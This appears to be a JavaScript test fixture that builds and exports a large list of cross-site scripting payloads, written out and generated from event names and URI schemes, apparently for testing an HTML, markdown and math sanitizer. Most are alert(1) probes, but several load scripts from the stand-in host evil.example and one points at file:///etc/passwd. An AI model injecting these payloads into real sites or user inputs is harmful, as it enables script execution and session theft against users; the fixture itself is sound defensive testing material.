// Test only: known script injections, written out or combined from parts.

const WRITTEN = String.raw`
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>
<script/src=data:,alert(1)>
<script>alert(String.fromCharCode(88,83,83))</script>
<script type="text/javascript">alert(1)//<![CDATA[</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script<!-- -->>alert(1)</script>
<script x>alert(1)</script 1=2
<script>/* */alert(1)/* */</script>
<script/XSS SRC="http://evil.example/xss.js"></script>
<script
>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
\x3cscript\x3ealert(1)\x3c/script\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
¼script¾alert(1)¼/script¾
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src="jav	ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src=" &#14;  javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img srcset="x,javascript:alert(1)">
<img usemap="#m"><map name=m><area href=javascript:alert(1)></map>
<IMG SRC="livescript:[code]">
<IMG SRC='vbscript:msgbox("XSS")'>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) />
<svg><set attributeName=onmouseover to=alert(1)>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg><style>@import'//evil.example'</style>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">CLICK</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data=javascript:alert(1)>
<object type="text/x-scriptlet" data="http://evil.example/x.html"></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
<applet code="javascript:alert(1)">
<base href="javascript:alert(1)//">
<base href=//evil.example/>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">
<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x
<div style="width: expression(alert(1));">
<div style="background-image: url(javascript:alert(1))">
<div style="behavior: url(http://evil.example/xss.htc);">
<div style="-moz-binding:url(http://evil.example/x.xml#x)">
<xss style="xss:expr/*XSS*/ession(alert(1))">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<bgsound src="javascript:alert(1);">
<br size="&{alert(1)}">
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<form action=javascript:alert(1)><input type=submit>
<form><button formaction=javascript:alert(1)>x
<isindex action=javascript:alert(1) type=image>
<input onfocus=alert(1) autofocus>
<input type="image" src="javascript:alert(1);">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video src=1 onerror=alert(1)>
<video><source onerror=alert(1)>
<video poster=javascript:alert(1)//>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<dialog open onclose=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<plaintext><script>alert(1)</script>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>
<?xml version="1.0"?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![><img src="]><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<a href="javascript:alert(1)">x</a>
<a href=" &#x6A;avascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=javas&#99;ript:alert(1)>x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="//evil.example/" target=_blank>x</a>
<a/href="javascript:alert(1)"/onclick=alert(1)>x
<a onmouseover=alert(document.cookie)>x</a>
<a ping="//evil.example" href="#">x</a>
<portal src=javascript:alert(1)>
<custom-element onclick=alert(1)>
<x contenteditable onblur=alert(1)>lose focus!
<div/onmouseover='alert(1)'>x
<img src=x onerror="&#97;lert(1)">
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><img src=x onerror=alert(1)>
'"><svg/onload=alert(1)>
" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
{{constructor.constructor('alert(1)')()}}
${'$'}{alert(1)}
<%= 7*7 %>
<% eval request("x") %>
<div ng-app>{{$eval.constructor('alert(1)')()}}</div>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](java	script:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](http://a.example" onmouseover="alert(1))
[x](http://a.example "t" onmouseover="alert(1)")
[x](<javascript:alert(1)>)
[<img src=x onerror=alert(1)>](http://a.example)
[x](http://a.example/'onmouseover='alert(1))
[x](//evil.example)
[x](/\evil.example)
[x](\\evil.example)
[x](http:javascript:alert(1))
[x](http://javascript:alert(1)@a.example)
[x](mailto:a@b.c?body=<script>alert(1)</script>)
[x](#"onclick="alert(1))
![x](javascript:alert(1))
![x"onerror="alert(1)](/user_uploads/2/ab/x.png)
![x](/user_uploads/2/ab/x.png"onerror="alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
<javascript:alert(1)>
<http://a.example/"onclick="alert(1)>
http://a.example/"onmouseover="alert(1)
http://a.example/<script>alert(1)</script>
http://a.example/#<img/src=x/onerror=alert(1)>
https://a.example/x.png"onerror="alert(1)
https://a.example/x.png?<svg/onload=alert(1)>
www.a.example/'"><svg/onload=alert(1)>
a"onclick="alert(1)"@b.com
@**x" onclick="alert(1)**
@**<img src=x onerror=alert(1)>**
@*<script>alert(1)</script>*
#**<script>alert(1)</script>**
#**a" onclick="alert(1)>b" onclick="alert(2)**
#**general><img src=x onerror=alert(1)>**
:"onclick="alert(1):
:<script>:
<time:"><script>alert(1)</script>>
<time:2020-01-01T00:00:00Z" onclick="alert(1)>
$$\href{javascript:alert(1)}{x}$$
$$\url{javascript:alert(1)}$$
$$\includegraphics{javascript:alert(1)}$$
$$\htmlClass{x" onclick="alert(1)}{y}$$
$$\htmlData{onclick=alert(1)}{y}$$
$$\htmlStyle{background:url(javascript:alert(1))}{y}$$
$$\htmlId{x" onclick="alert(1)}{y}$$
$$\text{<script>alert(1)</script>}$$
$$\color{red" onclick="alert(1)}{y}$$
$$\verb|<img src=x onerror=alert(1)>|$$
$$\unicode{<script>alert(1)</script>}$$
$$\def\x{<script>alert(1)</script>}\x$$
`;

const EVENTS =
  'abort animationend animationstart auxclick beforecopy beforeinput beforeunload blur canplay change click contextmenu copy cut dblclick drag dragend dragstart drop error focus focusin formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadstart message mousedown mouseenter mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pointerdown pointermove pointerover pointerup popstate progress resize reset scroll scrollend search seeked select selectionchange show submit toggle touchend touchstart transitionend unhandledrejection unload wheel';

const SCHEMES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'jAvAsCrIpT:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript://a.example/%0aalert(1)',
  'javascript://%0aalert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#x6a;avascript:alert(1)',
  'javascript%3aalert(1)',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'DATA:TEXT/HTML,x',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'file:///etc/passwd',
  'filesystem:http://a.example/x',
  'blob:http://a.example/x',
  'about:blank',
  'chrome://settings',
  'ms-settings:display',
  'intent://x#Intent;scheme=javascript;end',
  'x-javascript:alert(1)',
  'steam://run/1',
  'jav\u00adascript:alert(1)',
  'ｊavascript:alert(1)',
  'javascript\u200b:alert(1)',
];

const fromEvents = EVENTS.split(' ').flatMap((event) => [
  `<x on${event}=alert(1) tabindex=1 contenteditable>y</x>`,
  `" on${event}="alert(1)`,
]);
const fromSchemes = SCHEMES.flatMap((scheme) => [`[x](${scheme})`, `<a href="${scheme}">x</a>`, `<${scheme}>`, scheme]);

export const XSS_VECTORS: readonly string[] = [
  ...new Set([...WRITTEN.split('\n').filter((line) => line !== ''), ...fromEvents, ...fromSchemes]),
];
